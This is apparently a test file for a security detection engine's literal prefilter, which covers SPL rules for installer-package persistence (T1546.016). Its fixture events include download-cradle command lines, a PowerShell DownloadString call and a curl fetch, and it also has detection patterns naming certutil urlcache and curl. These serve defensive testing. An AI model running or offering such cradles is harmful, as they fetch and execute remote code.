// The literal prefilter (performance.md): which literals a rule needs, and that skipping events
// without them never changes a result.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { prefilterEventTest, prefilterTest, regexLiterals } from '../../../../detections/engines/spl/prefilter.ts';
import type { ViewEvent } from '../../../../detections/engines/types.ts';
import { REPO_ROOT } from '../../../support/corpus.ts';
import { compile, run } from './helpers.ts';

describe('regexLiterals: one of these is in every match', () => {
  it('alternations of literals, escaped punctuation, groups', () => {
    expect(regexLiterals('(msiexec|installer|cmd\\.exe)')).toEqual(['msiexec', 'installer', 'cmd.exe']);
    expect(regexLiterals('(?i)(?:ab|cd)')).toEqual(['ab', 'cd']);
  });
  it('optional and repeated atoms break runs; classes and escapes like \\s are barriers', () => {
    expect(regexLiterals('curl\\s')).toEqual(['curl']);
    expect(regexLiterals('(?i)\\w+tps?://\\S+\\.msi')).toEqual(['.msi']);
    expect(regexLiterals('certutil.*urlcache')).toEqual(['certutil']);
    expect(regexLiterals('colou?r')).toEqual(['colo']);
  });
  it('nothing when an alternative has no literal', () => {
    expect(regexLiterals('abc|\\d+')).toBeUndefined();
    expect(regexLiterals('[a-z]+')).toBeUndefined();
  });
});

describe('rule prefilters', () => {
  it('seed T1546.016: the installer/script/cradle literals first, the metadata clauses after', () => {
    const r = compile(readFileSync(path.join(REPO_ROOT, 'detections/spl/t1546.016-installer-packages.seed.spl'), 'utf8'));
    expect(r.prefilter![0]).toEqual(expect.arrayContaining(['msiexec', 'installer', 'powershell', 'downloadstring', 'curl']));
    expect(r.prefilter!.slice(1)).toEqual([['xmlwineventlog:microsoft-windows-sysmon/operational', 'wineventlog:security'], ['wineventlog']]);
  });

  it('OR without a clause on one side gives no clause; NOT gives none; numbers give none', () => {
    expect(compile('* | where match(a, "abcd") OR x>1').prefilter).toBeUndefined();
    expect(compile('* | where NOT match(a, "abcd")').prefilter).toBeUndefined();
    expect(compile('* | where a=1234').prefilter).toBeUndefined();
    expect(compile('* | where a="1234"').prefilter).toEqual([['1234']]);
  });

  it('a literal coalesce fallback that could satisfy the test disables the clause', () => {
    expect(compile('* | where match(coalesce(a, "xmsiexec"), "msiexec")').prefilter).toBeUndefined();
    expect(compile('* | where match(coalesce(a, ""), "msiexec")').prefilter).toEqual([['msiexec']]);
  });

  it('literals are cut to runs JSON encoders never escape', () => {
    expect(compile('"<EventID>4688<"').prefilter).toEqual([['eventid']]);
    expect(compile('x="C:\\\\Windows\\\\msiexec.exe"').prefilter).toEqual([['msiexec.exe']]);
  });

  it('prefilterTest: every clause needs one literal, case-insensitively', () => {
    const t = prefilterTest([['msiexec', 'dpkg'], ['powershell']]);
    expect(t('C:\\MsiExec.exe ... PowerShell')).toBe(true);
    expect(t('C:\\MsiExec.exe ... cmd')).toBe(false);
    expect(prefilterTest([])('anything')).toBe(true);
  });

  it('prefilterEventTest looks at every value, nested and multivalue included, not at keys', () => {
    const t = prefilterEventTest([['zzz'], ['42']]);
    expect(t({ a: 'x', b: 42, c: ['y', { d: 'ZZZ' }] })).toBe(true);
    expect(t({ zzz: 'x', b: 42 })).toBe(false);
  });

  it('characters that case-fold to ASCII are not missed: Kelvin sign (lower → k), ſ (upper → S), İ (lower → i̇)', () => {
    expect(prefilterTest([['pkgutil']])('/usr/sbin/p\u212Agutil')).toBe(true);
    expect(prefilterTest([['msiexec']])('C:\\m\u017fiexec.exe')).toBe(true);
    expect(prefilterTest([['wmi']])('WM\u0130C')).toBe(true);
    expect(prefilterTest([['pkgutil']])('/usr/sbin/pkgtool')).toBe(false);
  });
});

describe('the prefilter never changes results', () => {
  const events: ViewEvent[] = [];
  const parents = ['C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\explorer.exe', '/usr/bin/dpkg', 'C:\\Windows\\Installer\\MSI1.tmp'];
  const children = ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\x\\app.exe', '/usr/bin/python3'];
  const cmds = ['cmd /c echo hi', "powershell -c (New-Object Net.WebClient).DownloadString('http://x')", 'app.exe', 'curl -s http://x'];
  let i = 0;
  for (const p of parents) for (const c of children) for (const cmd of cmds) for (const code of ['1', '3', '4688']) {
    events.push({
      _time: 1000 + i++, index: 'wineventlog', sourcetype: code === '4688' ? 'WinEventLog:Security' : 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational',
      source: code === '4688' ? 'WinEventLog:Security' : 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational', host: 'h', EventCode: code,
      ...(code === '4688' ? { ParentProcessName: p, NewProcessName: c } : { ParentImage: p, Image: c }), CommandLine: cmd,
      ...(code === '3' ? { DestinationIp: i % 2 ? '52.110.3.4' : '10.1.1.1' } : {}),
    });
  }
  for (const name of ['t1546.016-installer-packages.seed.spl', 't1546.016-installer-packages.corrected.spl']) {
    it(`${name}: same rows with prefilter=on and off`, async () => {
      const text = readFileSync(path.join(REPO_ROOT, 'detections/spl', name), 'utf8');
      const on = await run(text, events);
      const off = await run(text, events, { settings: { prefilter: 'off' } });
      expect(on.length).toBeGreaterThan(0);
      expect(on).toEqual(off);
      // and the same when the prefilter is applied to the JSON text of each event
      const rule = compile(text, { settings: { prefilter: 'off' } });
      const test = prefilterTest(rule.prefilter ?? []);
      const kept = events.filter((e) => test(JSON.stringify(e)));
      expect(kept.length).toBeLessThan(events.length);
      expect(await run(text, kept)).toEqual(off);
    });
  }
});
